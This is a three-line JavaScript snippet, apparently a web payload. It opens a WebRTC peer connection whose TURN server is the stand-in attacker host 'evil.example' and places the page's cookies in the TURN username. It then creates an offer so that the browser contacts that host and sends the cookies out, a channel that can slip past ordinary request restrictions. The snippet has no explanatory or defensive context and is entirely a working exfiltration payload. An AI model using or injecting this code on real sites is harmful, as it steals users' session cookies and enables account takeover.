const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:evil.example:3478', username: document.cookie, credential: 'x' }] });
pc.createDataChannel('d');
pc.createOffer().then((o) => pc.setLocalDescription(o));
